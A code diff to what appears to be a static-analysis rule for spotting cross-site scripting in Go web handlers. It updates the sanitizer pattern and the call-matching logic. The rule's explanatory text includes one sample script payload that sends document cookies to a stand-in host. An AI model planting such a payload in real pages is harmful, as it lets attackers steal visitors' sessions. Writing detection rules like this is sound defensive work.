@@ -5,7 +5,7 @@ import { literalText, textBefore } from '../../rust/_utils/shared.js'
 import { methodCall, packageCall, paramsOfType } from '../_utils/go.js'
 
 export const GO_HTML_SANITIZERS =
-  /^(?:html\.EscapeString|template\.HTMLEscapeString|template\.HTMLEscaper|template\.JSEscapeString|template\.JSEscaper|url\.QueryEscape|url\.PathEscape|strconv\.Quote)$|\.(?:Sanitize|SanitizeBytes|SanitizeReader|Render|Execute|ExecuteTemplate)$|^bluemonday\.|(?:^|\.)(?:[eE]scape\w*|[sS]anitize\w*)$/
+  /^(?:html\.EscapeString|template\.HTMLEscapeString|template\.HTMLEscaper|template\.JSEscapeString|template\.JSEscaper|url\.QueryEscape|url\.PathEscape|strconv\.Quote)$|\.(?:Sanitize|SanitizeBytes|SanitizeReader|Render|Execute|ExecuteTemplate)$|^json\.(?:Marshal|MarshalIndent)$|^bluemonday\.|(?:^|\.)(?:[eE]scape\w*|[sS]anitize\w*)$/
 
 const TRUSTED_TYPES = /^(?:HTML|JS|HTMLAttr|URL|CSS|JSStr|Srcset)$/
 const NON_HTML_TYPE = /Content-Type["`]\s*,\s*["`](?:application\/(?:json|octet-stream|xml|pdf|zip)|text\/(?:plain|csv|event-stream)|image\/)/i
@@ -39,7 +39,12 @@ export default defineRule({
     'Text written into an HTML response without escaping is parsed as markup: a value such as `<script>fetch("//evil/?c="+document.cookie)</script>` runs in every visitor\'s browser with the site\'s origin; `template.HTML(x)` tells html/template to skip escaping for exactly such values (CWE-79).',
   safeAlternative:
     'Render with html/template and pass the data as plain strings (it escapes by context), or escape with `html.EscapeString` before writing; set `Content-Type: text/plain` or JSON for non-HTML responses.',
-  match: { rule: { kind: 'call_expression', has: { field: 'function', any: [{ kind: 'selector_expression' }, { kind: 'identifier' }] } } },
+  match: {
+    rule: {
+      kind: 'call_expression',
+      has: { field: 'function', kind: 'selector_expression', has: { field: 'field', regex: '^(?:HTML|JS|HTMLAttr|URL|CSS|JSStr|Srcset|Fprintf|Fprint|Fprintln|WriteString|Write|Data)$' } },
+    },
+  },
   check(node, ctx) {
     const args = ctx.flow.callArguments(node)
     const fnText = node.field('function')!.text()
